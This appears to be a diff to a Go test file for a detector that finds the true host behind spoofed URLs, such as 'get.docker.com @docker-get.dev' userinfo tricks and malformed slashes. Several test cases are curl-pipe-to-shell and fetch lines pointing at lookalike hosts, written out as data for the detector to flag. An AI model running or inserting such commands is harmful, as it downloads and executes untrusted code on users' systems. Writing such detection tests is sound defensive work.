@@ -33,7 +33,11 @@ func TestUserinfoAndSlashForms(t *testing.T) {
 		{`curl -fsSL https:/docker-get.dev/x.sh | sh`, false, "docker-get.dev"},
 		{`curl -fsSL https:///docker-get.dev/x.sh | sh`, false, "docker-get.dev"},
 		{`curl -fsSL https:/\docker-get.dev/x.sh | sh`, false, "docker-get.dev"},
+		{`fetch("https://get.docker.com @docker-get.dev/x.sh")`, false, "docker-get.dev"},
+		{`requests.get('https://sh.rustup.rs	@rustup-sh.dev/')`, false, "rustup-sh.dev"},
 		// Honest twins: the known host, punctuation after it but no '@'.
+		{`echo "see https://get.docker.com and the docs"; git log --author=a@b.dev`, true, "get.docker.com"},
+		{`fetch("https://get.docker.com").then(() => notify("ops@example.com"))`, true, "get.docker.com"},
 		{`curl -fsSL "https://get.docker.com", then run it`, true, "get.docker.com"},
 		{`See (https://get.docker.com); it installs Docker.`, true, "get.docker.com"},
 		{`curl -fsSL https://sh.rustup.rs | sh # or mail admin@example.com`, true, "sh.rustup.rs"},
@@ -56,7 +60,7 @@ func TestUserinfoAndSlashForms(t *testing.T) {
 // is at most 256 bytes, on a 1 MiB line of such characters too.
 func TestUserinfoBounded(t *testing.T) {
 	line := "https://get.docker.com" + strings.Repeat(",", 1<<20) + "@evil.dev"
-	if _, ok := userinfo(line, len("https://"), len("https://get.docker.com")); ok {
+	if _, ok := userinfo(line, 0, len("https://"), len("https://get.docker.com")); ok {
 		t.Errorf("an '@' 1 MiB on was read")
 	}
 	us := URLs(strings.Repeat("https://a.dev,"+strings.Repeat(";", 300), 1<<10))
